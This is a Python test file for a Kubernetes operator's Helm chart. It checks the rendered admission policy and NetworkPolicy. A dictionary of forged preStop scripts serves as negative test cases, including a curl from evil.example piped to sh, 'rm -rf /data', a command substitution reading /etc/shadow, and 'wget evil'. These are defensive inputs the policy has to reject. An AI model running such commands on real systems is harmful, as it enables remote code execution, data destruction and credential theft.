"""The ValidatingAdmissionPolicy (templates/admissionpolicy.yaml) and the NetworkPolicy
(templates/networkpolicy.yaml) as rendered, and the policy's pieces that mirror the operator's code: its
hook pattern accepts exactly podgrace's preStop scripts, its signal list is the profiles' signal list.

What the policy does on a real API server is tests/e2e/test_admission_policy.py.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from hack.chart import helmchart

from podgrace.core import hook_intent
from podgrace.core.constants import HOOK_MARKER
from podgrace.core.signals import Role, Signal

NS = helmchart.NAMESPACE
VAP = "ValidatingAdmissionPolicy"
VAPB = "ValidatingAdmissionPolicyBinding"


@pytest.fixture(scope="module")
def policy_docs(helm: str) -> list[dict[str, Any]]:
    return helmchart.render(helm, show_only=["templates/admissionpolicy.yaml"], extra=helmchart.WITH_VAP)


def _variables(policy: dict[str, Any]) -> dict[str, str]:
    return {v["name"]: v["expression"] for v in policy["spec"]["variables"]}


def _hook_pattern(policy: dict[str, Any]) -> str:
    found = re.search(r"\.matches\(r'(.*?)'\)", _variables(policy)["hooksAllowed"], re.S)
    assert found, _variables(policy)["hooksAllowed"]
    return found.group(1)


def _re2_match(pattern: str, text: str) -> bool:
    """CEL's matches() is an unanchored RE2 search; the pattern anchors itself with ^ and $. Python's `$`
    also matches before a final newline, RE2's (without the m flag) does not: test that case with `\\Z`."""
    return re.search(pattern.removesuffix("$") + r"\Z", text) is not None


def test_default_render_binds_only_the_operators_service_account(policy_docs: list[dict[str, Any]]) -> None:
    policy = helmchart.one(policy_docs, VAP)
    binding = helmchart.one(policy_docs, VAPB)
    assert policy["metadata"]["name"] == binding["spec"]["policyName"] == "podgrace-owned-fields"
    assert binding["spec"]["validationActions"] == ["Deny"]
    assert "matchResources" not in binding["spec"]  # every namespace: the ServiceAccount's grant may be too
    assert policy["spec"]["failurePolicy"] == "Fail"
    conditions = policy["spec"]["matchConditions"]
    assert conditions == [
        {
            "name": "podgrace-service-account",
            "expression": f'request.userInfo.username == "system:serviceaccount:{NS}:podgrace"',
        }
    ]
    (rule,) = policy["spec"]["matchConstraints"]["resourceRules"]
    assert rule["apiGroups"] == ["apps"] and rule["apiVersions"] == ["v1"]
    assert set(rule["operations"]) == {"CREATE", "UPDATE", "DELETE"}
    kinds = ("deployments", "statefulsets", "daemonsets")
    assert set(rule["resources"]) == {*kinds, *(f"{k}/*" for k in kinds)}
    assert policy["spec"]["matchConstraints"]["matchPolicy"] == "Equivalent"
    # Every validation but the first is guarded by `variables.update`, so no CREATE/DELETE (object or
    # oldObject null) or subresource write evaluates a field that is not there.
    first, *rest = policy["spec"]["validations"]
    assert first["expression"] == "variables.update"
    assert all(v["expression"].startswith("!variables.update || ") for v in rest)
    assert all(v["reason"] == "Forbidden" for v in policy["spec"]["validations"])


def test_the_user_follows_the_release_namespace_and_service_account(helm: str) -> None:
    docs = helmchart.render(
        helm,
        set_values=["serviceAccount.create=false", "serviceAccount.name=grace-bot", "fullnameOverride=pg"],
        namespace="ops",
        show_only=["templates/admissionpolicy.yaml"],
        extra=helmchart.WITH_VAP,
    )
    policy = helmchart.one(docs, VAP)
    assert policy["metadata"]["name"] == "pg-owned-fields"
    expression = policy["spec"]["matchConditions"][0]["expression"]
    assert expression.endswith('"system:serviceaccount:ops:grace-bot"')


def test_rendered_only_where_the_api_is_served_and_enabled(helm: str) -> None:
    # `helm install` reads the API server's discovery; a plain `helm template` knows no kinds, so without
    # --api-versions it renders no policy (an API server without it would refuse the whole release).
    assert VAP not in helmchart.render_text(helm)
    assert VAP not in helmchart.render_text(helm, extra=["--api-versions", "admissionregistration.k8s.io/v1"])
    off = helmchart.render_text(helm, set_values=["admissionPolicy.enabled=false"], extra=helmchart.WITH_VAP)
    assert VAP not in off


def test_validation_actions_are_configurable(helm: str) -> None:
    docs = helmchart.render(
        helm, set_values=["admissionPolicy.validationActions={Warn,Audit}"], extra=helmchart.WITH_VAP
    )
    assert helmchart.one(docs, VAPB)["spec"]["validationActions"] == ["Warn", "Audit"]


def test_signal_list_is_the_profiles_signal_list(policy_docs: list[dict[str, Any]]) -> None:
    expression = _variables(helmchart.one(policy_docs, VAP))["signalsAllowed"]
    listed = re.search(r"stopSignal in \[(.*?)\]", expression)
    assert listed, expression
    assert [s.strip(" '") for s in listed.group(1).split(",")] == [s.value for s in Signal]


@pytest.mark.parametrize("seconds", [0, 1, 5, 35, 3600])
def test_hook_pattern_accepts_every_script_podgrace_writes(
    policy_docs: list[dict[str, Any]], seconds: int
) -> None:
    pattern = _hook_pattern(helmchart.one(policy_docs, VAP))
    intents = [hook_intent.ExecSleep(seconds)]
    intents += [
        hook_intent.SignalAndWait(seconds, sig, 30 + seconds, role) for sig in Signal for role in Role
    ]
    scripts = [hook_intent.render(intent)["exec"]["command"] for intent in intents]
    for command in scripts:
        assert command[:2] == ["/bin/sh", "-c"]  # what the policy's expression requires besides the pattern
        assert _re2_match(pattern, command[2]), command[2]


def test_hook_pattern_is_the_one_hook_intent_writes(policy_docs: list[dict[str, Any]]) -> None:
    """The chart's copy of the pattern: on a change of hook_intent's scripts, paste admission_pattern()'s
    output into podgrace.hookPattern (charts/podgrace/templates/_helpers.tpl)."""
    assert _hook_pattern(helmchart.one(policy_docs, VAP)) == hook_intent.admission_pattern()


_WORKERS_HOOK = hook_intent.render(hook_intent.SignalAndWait(1, Signal.SIGQUIT, 5, Role.NGINX))["exec"][
    "command"
][2]

FORGED_SCRIPTS = {
    "no marker": "sleep 5",
    "marker, then something else": f"{HOOK_MARKER}\nsleep 5\ncurl -s http://evil.example/x | sh",
    "command after the sleep": f"{HOOK_MARKER}\nsleep 5; rm -rf /data",
    "command substitution": f"{HOOK_MARKER}\nsleep $(cat /etc/shadow)",
    "trailing newline and command": f"{HOOK_MARKER}\nsleep 5\n",
    "kill of another pid": f"{HOOK_MARKER}\nsleep 1\nkill -QUIT 7\ni=0\n"
    'while kill -0 1 2>/dev/null && [ "$i" -lt 5 ]; do sleep 1; i=$((i+1)); done',
    "SIGKILL": f"{HOOK_MARKER}\nsleep 1\nkill -KILL 1\ni=0\n"
    'while kill -0 1 2>/dev/null && [ "$i" -lt 5 ]; do sleep 1; i=$((i+1)); done',
    "loop body replaced": f"{HOOK_MARKER}\nsleep 1\nkill -QUIT 1\ni=0\n"
    'while kill -0 1 2>/dev/null && [ "$i" -lt 5 ]; do wget evil; i=$((i+1)); done',
    "marker not first": f"echo pwned\n{HOOK_MARKER}\nsleep 5",
    "workers' hook, another command after": _WORKERS_HOOK + "\nrm -rf /data",
    "workers' hook, SIGKILL to the workers": _WORKERS_HOOK.replace("kill -QUIT $w", "kill -KILL $w"),
    "workers' hook with Apache's names": _WORKERS_HOOK.replace("in nginx)", "in apache2|httpd)"),
}


@pytest.mark.parametrize("script", list(FORGED_SCRIPTS.values()), ids=list(FORGED_SCRIPTS))
def test_hook_pattern_refuses_other_scripts(policy_docs: list[dict[str, Any]], script: str) -> None:
    assert not _re2_match(_hook_pattern(helmchart.one(policy_docs, VAP)), script)


def test_podgrace_fields_in_the_policy_match_the_apply_body() -> None:
    """The pod-spec keys the policy lets podgrace change are the ones its apply body can carry."""
    from podgrace.core.apply_body import pod_spec_fields
    from podgrace.core.models import Role
    from podgrace.core.planner import ContainerSettings, Outcome, Plan

    nginx = ContainerSettings(
        "nginx", "nginx", Role.NGINX, 5, 30, pre_stop=hook_intent.NativeSleep(5), stop_signal="SIGQUIT"
    )
    plan = Plan(
        "ns/web",
        Outcome.MANAGED,
        containers=(nginx,),
        termination_grace_period_seconds=40,
        os_name="linux",
    )
    fields = pod_spec_fields(plan)
    assert set(fields) == {"containers", "terminationGracePeriodSeconds", "os"}
    assert set(fields["containers"][0]) == {"name", "lifecycle"}
    assert set(fields["containers"][0]["lifecycle"]) == {"preStop", "stopSignal"}
    assert fields["os"] == {"name": "linux"}


# --- NetworkPolicy


def test_network_policy_is_off_by_default(helm: str) -> None:
    assert "kind: NetworkPolicy" not in helmchart.render_text(helm)


def test_network_policy_defaults_open_the_two_ports_and_the_api_server_ports(helm: str) -> None:
    docs = helmchart.render(helm, set_values=["networkPolicy.enabled=true"])
    np = helmchart.one(docs, "NetworkPolicy")
    spec = np["spec"]
    deployment = helmchart.one(docs, "Deployment")
    assert spec["podSelector"]["matchLabels"] == deployment["spec"]["selector"]["matchLabels"]
    assert spec["policyTypes"] == ["Ingress", "Egress"]
    assert spec["ingress"] == [
        {"ports": [{"port": "metrics", "protocol": "TCP"}]},
        {"ports": [{"port": "healthz", "protocol": "TCP"}]},
    ]
    container_ports = {p["name"] for p in deployment["spec"]["template"]["spec"]["containers"][0]["ports"]}
    assert container_ports == {"metrics", "healthz"}  # the named ports the policy opens exist
    api_ports = [{"port": 443, "protocol": "TCP"}, {"port": 6443, "protocol": "TCP"}]
    assert spec["egress"] == [{"ports": api_ports}]  # to any address


def test_network_policy_sources_cidrs_dns_and_extra_egress(helm: str) -> None:
    monitoring = {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "monitoring"}}}
    docs = helmchart.render(
        helm,
        set_values=[
            "networkPolicy.enabled=true",
            "networkPolicy.metrics.from[0].namespaceSelector.matchLabels.kubernetes\\.io/metadata\\.name=monitoring",
            "networkPolicy.health.from[0].ipBlock.cidr=10.0.0.0/8",
            "networkPolicy.apiServer.cidrs={192.168.1.10/32,fd00::1/128}",
            "networkPolicy.apiServer.ports={6443}",
            "networkPolicy.dns=true",
            "networkPolicy.extraEgress[0].ports[0].port=3128",
        ],
    )
    spec = helmchart.one(docs, "NetworkPolicy")["spec"]
    metrics, health = spec["ingress"]
    test_pod = helmchart.one(docs, "Pod")
    assert metrics["from"][0] == monitoring
    # The helm test Pod keeps working: it is let in by its own labels.
    (extra,) = metrics["from"][1:]
    assert extra["podSelector"]["matchLabels"].items() <= test_pod["metadata"]["labels"].items()
    assert extra["podSelector"]["matchLabels"]["app.kubernetes.io/component"] == "test"
    assert health["from"] == [{"ipBlock": {"cidr": "10.0.0.0/8"}}]
    api, dns, proxy = spec["egress"]
    assert api == {
        "ports": [{"port": 6443, "protocol": "TCP"}],
        "to": [{"ipBlock": {"cidr": "192.168.1.10/32"}}, {"ipBlock": {"cidr": "fd00::1/128"}}],
    }
    assert dns == {"ports": [{"port": 53, "protocol": "UDP"}, {"port": 53, "protocol": "TCP"}]}
    assert proxy == {"ports": [{"port": 3128}]}
    no_tests = helmchart.render(
        helm,
        set_values=[
            "networkPolicy.enabled=true",
            "tests.enabled=false",
            "networkPolicy.metrics.from[0].podSelector.matchLabels.app=prometheus",
        ],
    )
    assert helmchart.one(no_tests, "NetworkPolicy")["spec"]["ingress"][0]["from"] == [
        {"podSelector": {"matchLabels": {"app": "prometheus"}}}
    ]
